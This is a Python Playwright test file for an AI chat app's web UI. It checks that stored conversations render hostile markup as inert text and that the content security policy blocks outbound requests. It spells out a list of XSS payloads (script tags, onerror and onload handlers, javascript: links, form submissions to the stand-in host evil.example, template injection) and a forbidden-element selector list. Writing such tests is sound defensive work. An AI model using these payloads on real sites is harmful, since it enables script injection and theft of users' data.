"""What means harm in a conversation stays words: nothing loads, runs or is submitted."""

from __future__ import annotations

from pathlib import Path

from playwright.sync_api import expect
from tests.ui.conftest import Site

from airunner.messages import Message, ToolCall
from airunner.records.records import Records

EVIL = "https://evil.example"
HOSTILE = (
    f"<img src={EVIL}/a.png onerror=\"window.hacked='img'\">",
    f"<script>window.hacked='script'</script><script src={EVIL}/x.js></script>",
    f'<form action={EVIL}><input name=key><button id="evil">OK</button></form>',
    f"<style>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y.png) }}</style>",
    f"<iframe src={EVIL}></iframe><svg onload=\"window.hacked='svg'\"></svg>",
    f"![a picture]({EVIL}/b.png) ![own](/api/v1/../../{EVIL}) [click](javascript:window.hacked=1)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)>",
    f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    "$\\text{<img src=x onerror=window.hacked=2>}$ $\\href{javascript:window.hacked=3}{x}$",
    "```html\n</code></pre><img src=x onerror=window.hacked=4>\n```",
    '```"><img src=x onerror=window.hacked=5>\ncode\n```',
    "{{ constructor.constructor('window.hacked=6')() }} ${window.hacked=7}",
)


def save_hostile(home: Path) -> str:
    """A conversation that is hostile wherever somebody else fills it; its id."""
    text = "\n\n".join(HOSTILE)
    call = ToolCall("call_1", HOSTILE[0], {HOSTILE[1]: HOSTILE[2]})
    messages = [
        Message("user", text),
        Message("assistant", text, reasoning=text, tool_calls=(call,)),
        Message("tool", text, tool_call_id="call_1", name=HOSTILE[0]),
        Message("assistant", text),
    ]
    records = Records(home / "records.sqlite3")
    records.conversations.save("hostile", messages, title=HOSTILE[0] + HOSTILE[1])
    return "hostile"


def test_hostile_answers_results_and_titles_are_only_words(site: Site) -> None:
    made = save_hostile(site.server.home)
    tab = site.open(f"/chat/{made}")
    answers = tab.locator(".said.assistant")
    expect(answers).to_have_count(1)
    expect(answers.last).to_contain_text("<script>window.hacked='script'</script>")
    tab.locator("details").evaluate_all("all => all.forEach(each => each.open = true)")
    for path in ("/memory", f"/chat/{made}"):
        tab.locator(f'a[href="{path}"]').first.click()
    expect(answers).to_have_count(1)
    tab.wait_for_timeout(500)  # for whatever would load, to be asked for
    assert tab.evaluate("window.hacked") is None
    inside = tab.locator(".said, .conversations")
    forbidden = "script, form, iframe, style, base, meta, object, embed, svg, [onerror], [onload]"
    assert inside.locator(forbidden).count() == 0
    links = inside.locator("a").evaluate_all("all => all.map(each => each.getAttribute('href'))")
    assert all(link.startswith(("https://", "http://", "mailto:", "/")) for link in links)
    pictures = inside.locator("img").evaluate_all("all => all.map(each => each.src)")
    assert all(each.startswith(site.url) for each in pictures)


def test_the_policy_stops_what_a_mistake_of_ours_would_let_through(site: Site) -> None:
    tab = site.open()
    tab.evaluate(
        """(evil) => {
          window.blocked = new Set();
          document.addEventListener("securitypolicyviolation",
            e => blocked.add(e.violatedDirective.split(" ")[0]));
          document.body.insertAdjacentHTML("beforeend",
            `<img src="${evil}/a.png"><form action="${evil}" id="out"></form>`);
          document.getElementById("out").submit();
          fetch(evil).catch(() => {});
        }""",
        EVIL,
    )
    for kind in ("img-src", "form-action", "connect-src"):
        tab.wait_for_function("kind => blocked.has(kind)", arg=kind)
    tab.close()  # whatever it asks for has been heard of then
    site.hosts.discard(EVIL)  # asked for, and stopped before it left the browser
